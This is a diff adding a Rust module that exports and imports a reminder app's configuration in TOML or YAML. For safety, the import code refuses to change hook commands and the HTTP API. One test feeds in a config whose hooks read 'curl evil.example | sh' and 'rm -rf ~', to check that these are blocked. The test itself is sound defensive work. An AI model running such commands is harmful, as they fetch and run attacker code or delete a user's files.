@@ -0,0 +1,445 @@
+use serde::{Deserialize, Serialize};
+use std::collections::HashSet;
+use ts_rs::TS;
+use uuid::Uuid;
+
+use crate::{
+    duration::HumanDuration,
+    exercises::ExerciseSelection,
+    state::{AdaptiveInterval, ClientState, HookState, HttpApiState, LogLevel, MessageTemplate, OneShot, ReminderKind, ReminderState, ReminderTiming, Settings, WebhookState},
+    CoreError,
+};
+
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, TS)]
+#[serde(rename_all = "lowercase")]
+#[ts(export)]
+pub enum ConfigFormat {
+  Toml,
+  Yaml
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, TS)]
+#[ts(export)]
+pub enum ImportMode {
+  // reminders and webhooks are matched by id, settings left out of the file are kept
+  Merge,
+  // the file becomes the whole state
+  Replace
+}
+
+// what an import changed, entries which conflict are left out
+#[derive(Serialize, Deserialize, Debug, Clone, Default, PartialEq, TS)]
+#[ts(export)]
+pub struct ImportReport {
+  pub added: Vec<String>,
+  pub updated: Vec<String>,
+  pub removed: Vec<String>,
+  pub conflicts: Vec<ImportConflict>
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, TS)]
+#[ts(export)]
+pub struct ImportConflict {
+  // e.g. reminders[2]
+  pub entry: String,
+  pub name: String,
+  pub reason: String
+}
+
+// the client state as written in a config file, durations are human readable
+// and everything is optional so a file may only carry a few settings
+#[derive(Serialize, Deserialize, Debug, Default)]
+#[serde(deny_unknown_fields)]
+pub struct Config {
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub paused: Option<bool>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub notifications: Option<bool>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub allow_command_hooks: Option<bool>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub hook_timeout: Option<HumanDuration>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub log_level: Option<LogLevel>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub hooks: Option<HooksConfig>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub http_api: Option<HttpApiState>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub settings: Option<Settings>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub reminders: Option<Vec<ReminderConfig>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub webhooks: Option<Vec<WebhookConfig>>
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, Default)]
+#[serde(deny_unknown_fields)]
+pub struct HooksConfig {
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub on_start: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub on_end: Option<String>
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone)]
+#[serde(deny_unknown_fields)]
+pub struct ReminderConfig {
+    // left out for new reminders, an id is generated on import
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub id: Option<String>,
+    pub name: String,
+    #[serde(default)]
+    pub active: bool,
+    pub every: HumanDuration,
+    pub duration: HumanDuration,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub hooks: Option<HooksConfig>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub message: Option<MessageTemplate>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub exercises: Option<ExerciseSelection>,
+    // left out for plain break reminders
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub kind: Option<ReminderKind>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub adaptive: Option<AdaptiveConfig>,
+    // left out for reminders on a fixed interval
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub timing: Option<ReminderTiming>,
+    // left out for reminders on an interval
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub once: Option<OneShot>
+}
+
+// the bounds of an adaptive interval, the interval in use is not part of the config
+#[derive(Serialize, Deserialize, Debug, Clone)]
+#[serde(deny_unknown_fields)]
+pub struct AdaptiveConfig {
+    pub min: HumanDuration,
+    pub max: HumanDuration
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone)]
+#[serde(deny_unknown_fields)]
+pub struct WebhookConfig {
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub id: Option<String>,
+    pub url: String,
+    #[serde(default)]
+    pub secret: String,
+    #[serde(default = "default_true")]
+    pub active: bool
+}
+
+fn default_true() -> bool {
+    true
+}
+
+impl From<&HookState> for HooksConfig {
+    fn from(h: &HookState) -> Self {
+        HooksConfig { on_start: h.on_start.clone(), on_end: h.on_end.clone() }
+    }
+}
+
+impl From<HooksConfig> for HookState {
+    fn from(h: HooksConfig) -> Self {
+        HookState { on_start: h.on_start, on_end: h.on_end }
+    }
+}
+
+impl From<&ClientState> for Config {
+    fn from(state: &ClientState) -> Self {
+        Config {
+            paused: Some(state.paused),
+            notifications: Some(state.notifications),
+            allow_command_hooks: Some(state.allow_command_hooks),
+            hook_timeout: Some(HumanDuration(state.hook_timeout_ms)),
+            log_level: Some(state.log_level),
+            hooks: Some((&state.hooks).into()),
+            http_api: Some(state.http_api.clone()),
+            settings: Some(state.settings.clone()),
+            reminders: Some(state.reminders.iter().map(|r| ReminderConfig {
+                id: Some(r.id.clone()),
+                name: r.name.clone(),
+                active: r.is_active,
+                every: HumanDuration(r.wait_ms),
+                duration: HumanDuration(r.duration_ms),
+                hooks: Some((&r.hooks).into()),
+                message: Some(r.message.clone()),
+                exercises: r.exercises.clone(),
+                kind: Some(r.kind.clone()).filter(|k| *k != ReminderKind::Break),
+                adaptive: r.adaptive.as_ref().map(|a| AdaptiveConfig { min: HumanDuration(a.min_wait_ms), max: HumanDuration(a.max_wait_ms) }),
+                timing: Some(r.timing.clone()).filter(|t| *t != ReminderTiming::Fixed),
+                once: r.once.clone()
+            }).collect()),
+            webhooks: Some(state.webhooks.iter().map(|w| WebhookConfig {
+                id: Some(w.id.clone()),
+                url: w.url.clone(),
+                secret: w.secret.clone(),
+                active: w.is_active
+            }).collect())
+        }
+    }
+}
+
+pub fn export(state: &ClientState, format: ConfigFormat) -> Result<String, CoreError> {
+    let config = Config::from(state);
+    let res = match format {
+        // through a value so tables end up after plain values, as toml requires
+        ConfigFormat::Toml => toml::Value::try_from(&config)
+            .and_then(|v| toml::to_string_pretty(&v))
+            .map_err(|e| e.to_string()),
+        ConfigFormat::Yaml => serde_yaml::to_string(&config).map_err(|e| e.to_string())
+    };
+    res.map_err(|reason| CoreError::Internal { reason })
+}
+
+// the format is detected, toml is tried first since most yaml is not valid toml
+pub fn parse(content: &str) -> Result<Config, CoreError> {
+    let toml_error = match toml::from_str::<Config>(content) {
+        Ok(c) => return Ok(c),
+        Err(e) => e
+    };
+    serde_yaml::from_str::<Config>(content).map_err(|yaml_error| CoreError::Validation {
+        field: "content".to_string(),
+        reason: format!("neither valid toml ({}) nor yaml ({})", toml_error, yaml_error)
+    })
+}
+
+// build the state an import results in, the current state is left untouched
+pub fn import(current: &ClientState, config: Config, mode: ImportMode) -> (ClientState, ImportReport) {
+    let mut report = ImportReport::default();
+    let mut state = match mode {
+        ImportMode::Merge => current.clone(),
+        ImportMode::Replace => {
+            let mut fresh = ClientState::new(&current.data_path);
+            fresh.client_uuid = current.client_uuid.clone();
+            fresh.onboarded = current.onboarded;
+            fresh.reminders.clear();
+            // the file describes the active profile, the others are kept
+            fresh.profiles = current.profiles.clone();
+            fresh.active_profile = current.active_profile.clone();
+            fresh
+        }
+    };
+
+    if let Some(v) = config.paused { state.paused = v }
+    if let Some(v) = config.notifications { state.notifications = v }
+    if let Some(v) = config.hook_timeout { state.hook_timeout_ms = v.0 }
+    if let Some(v) = config.log_level { state.log_level = v }
+    if let Some(v) = config.settings { state.settings = v }
+
+    // commands and the http api are only changed in the app, an import may come
+    // from anyone who can reach the socket or the http api
+    state.allow_command_hooks = current.allow_command_hooks;
+    state.hooks = current.hooks.clone();
+    state.http_api = current.http_api.clone();
+    if matches!(config.allow_command_hooks, Some(v) if v != current.allow_command_hooks) {
+        report.conflicts.push(not_imported("allow_command_hooks".to_string(), "allow_command_hooks"));
+    }
+    if matches!(config.hooks.map(HookState::from), Some(h) if h != current.hooks) {
+        report.conflicts.push(not_imported("hooks".to_string(), "hooks"));
+    }
+    if matches!(&config.http_api, Some(h) if *h != current.http_api) {
+        report.conflicts.push(not_imported("http_api".to_string(), "http_api"));
+    }
+
+    if let Some(reminders) = config.reminders {
+        import_reminders(&mut state.reminders, &current.reminders, reminders, &mut report);
+    }
+    if let Some(webhooks) = config.webhooks {
+        import_webhooks(&mut state.webhooks, webhooks, &mut report);
+    }
+
+    if mode == ImportMode::Replace {
+        let kept: HashSet<&str> = state.reminders.iter().map(|r| r.id.as_str()).collect();
+        report.removed = current.reminders.iter()
+            .filter(|r| !kept.contains(r.id.as_str()))
+            .map(|r| r.id.clone())
+            .collect();
+        // every reminder was added to an empty list, those which existed before were updated
+        let (updated, added) = report.added.drain(..).partition(|id| current.reminders.iter().any(|r| r.id == *id));
+        report.updated = updated;
+        report.added = added;
+    }
+    (state, report)
+}
+
+// hook commands are kept as they are, see import
+fn import_reminders(reminders: &mut Vec<ReminderState>, previous: &[ReminderState], imported: Vec<ReminderConfig>, report: &mut ImportReport) {
+    let mut seen = HashSet::new();
+    for (i, r) in imported.into_iter().enumerate() {
+        let entry = format!("reminders[{}]", i);
+        let id = r.id.clone().unwrap_or_else(|| Uuid::new_v4().to_string());
+        if !seen.insert(id.clone()) {
+            report.conflicts.push(conflict(entry, &r.name, "the id is used more than once in the file"));
+            continue;
+        }
+        let taken_by = reminders.iter()
+            .find(|o| o.id != id && o.name.trim().eq_ignore_ascii_case(r.name.trim()));
+        if let Some(other) = taken_by {
+            let reason = format!("the name is already used by reminder {}", other.id);
+            report.conflicts.push(conflict(entry, &r.name, &reason));
+            continue;
+        }
+
+        let hooks = previous.iter().find(|o| o.id == id).map(|o| o.hooks.clone()).unwrap_or_default();
+        if matches!(r.hooks.clone().map(HookState::from), Some(h) if h != hooks) {
+            report.conflicts.push(not_imported(format!("{}.hooks", entry), &r.name));
+        }
+        match reminders.iter_mut().find(|o| o.id == id) {
+            Some(existing) => {
+                existing.name = r.name;
+                existing.is_active = r.active;
+                existing.wait_ms = r.every.0;
+                existing.duration_ms = r.duration.0;
+                if let Some(m) = r.message {
+                    existing.message = m;
+                }
+                existing.exercises = r.exercises;
+                existing.kind = r.kind.unwrap_or_default();
+                let current_wait_ms = existing.adaptive.as_ref().and_then(|a| a.current_wait_ms);
+                existing.adaptive = r.adaptive.map(|a| AdaptiveInterval { min_wait_ms: a.min.0, max_wait_ms: a.max.0, current_wait_ms });
+                existing.timing = r.timing.unwrap_or_default();
+                existing.once = r.once;
+                report.updated.push(id);
+            },
+            None => {
+                reminders.push(ReminderState {
+                    id: id.clone(),
+                    name: r.name,
+                    is_active: r.active,
+                    wait_ms: r.every.0,
+                    duration_ms: r.duration.0,
+                    hooks,
+                    message: r.message.unwrap_or_default(),
+                    exercises: r.exercises,
+                    kind: r.kind.unwrap_or_default(),
+                    adaptive: r.adaptive.map(|a| AdaptiveInterval { min_wait_ms: a.min.0, max_wait_ms: a.max.0, current_wait_ms: None }),
+                    timing: r.timing.unwrap_or_default(),
+                    once: r.once
+                });
+                report.added.push(id);
+            }
+        }
+    }
+}
+
+fn import_webhooks(webhooks: &mut Vec<WebhookState>, imported: Vec<WebhookConfig>, report: &mut ImportReport) {
+    for (i, w) in imported.into_iter().enumerate() {
+        let id = w.id.clone().unwrap_or_else(|| Uuid::new_v4().to_string());
+        if webhooks.iter().any(|o| o.id != id && o.url == w.url) {
+            report.conflicts.push(conflict(format!("webhooks[{}]", i), &w.url, "a webhook with this url already exists"));
+            continue;
+        }
+        let webhook = WebhookState { id: id.clone(), url: w.url, secret: w.secret, is_active: w.active };
+        match webhooks.iter_mut().find(|o| o.id == id) {
+            Some(existing) => *existing = webhook,
+            None => webhooks.push(webhook)
+        }
+    }
+}
+
+fn conflict(entry: String, name: &str, reason: &str) -> ImportConflict {
+    ImportConflict { entry, name: name.to_string(), reason: reason.to_string() }
+}
+
+fn not_imported(entry: String, name: &str) -> ImportConflict {
+    conflict(entry, name, "hook commands and the http api are not imported, change them in the app")
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::state::ClientState;
+    use super::{export, import, parse, ConfigFormat, ImportMode};
+
+    #[test]
+    fn config_round_trips_through_toml_and_yaml() {
+        let mut state = ClientState::new("");
+        state.reminders[0].wait_ms = 45 * 60 * 1000;
+        state.reminders[1].hooks.on_start = Some("echo start".to_string());
+
+        for format in [ConfigFormat::Toml, ConfigFormat::Yaml] {
+            let content = export(&state, format).unwrap();
+            assert!(content.contains("45m"), "{}", content);
+
+            let (imported, report) = import(&state, parse(&content).unwrap(), ImportMode::Replace);
+            assert_eq!(serde_json::to_value(&imported).unwrap(), serde_json::to_value(&state).unwrap());
+            assert_eq!(report.updated.len(), 2);
+            assert!(report.added.is_empty() && report.removed.is_empty() && report.conflicts.is_empty());
+        }
+    }
+
+    #[test]
+    fn config_merge_reports_conflicts() {
+        let state = ClientState::new("");
+        let content = format!(r#"
+paused = true
+
+[[reminders]]
+name = "Walk"
+every = "1h30m"
+duration = "5m"
+
+[[reminders]]
+name = "20-20-20 Eye Rule"
+every = "45m"
+duration = "30s"
+
+[[reminders]]
+id = "{}"
+name = "Water"
+every = "20m"
+duration = "10s"
+"#, state.reminders[1].id);
+
+        let (merged, report) = import(&state, parse(&content).unwrap(), ImportMode::Merge);
+        assert!(merged.paused);
+        assert_eq!(merged.notifications, state.notifications);
+        assert_eq!(merged.reminders.len(), 3);
+        assert_eq!(merged.reminders[1].name, "Water");
+        assert_eq!(merged.reminders[2].wait_ms, 90 * 60 * 1000);
+        assert_eq!(report.added, vec![merged.reminders[2].id.clone()]);
+        assert_eq!(report.updated, vec![state.reminders[1].id.clone()]);
+        assert_eq!(report.conflicts.len(), 1);
+        assert_eq!(report.conflicts[0].entry, "reminders[1]");
+
+        assert!(parse("reminders = 3").is_err());
+    }
+
+    #[test]
+    fn config_import_leaves_commands_alone() {
+        let state = ClientState::new("");
+        let content = format!(r#"
+allow_command_hooks = true
+
+[hooks]
+on_start = "curl evil.example | sh"
+
+[http_api]
+enabled = true
+port = 80
+token = "guessed"
+
+[[reminders]]
+id = "{}"
+name = "Water"
+every = "20m"
+duration = "10s"
+
+[reminders.hooks]
+on_end = "rm -rf ~"
+"#, state.reminders[1].id);
+
+        let (imported, report) = import(&state, parse(&content).unwrap(), ImportMode::Replace);
+        assert!(!imported.allow_command_hooks);
+        assert!(imported.hooks.on_start.is_none());
+        assert_eq!(imported.http_api, state.http_api);
+        assert!(imported.reminders[0].hooks.on_end.is_none());
+        // the rest of the file still applies
+        assert_eq!(imported.reminders[0].name, "Water");
+        let entries: Vec<&str> = report.conflicts.iter().map(|c| c.entry.as_str()).collect();
+        assert_eq!(entries, ["allow_command_hooks", "hooks", "http_api", "reminders[0].hooks"]);
+    }
+}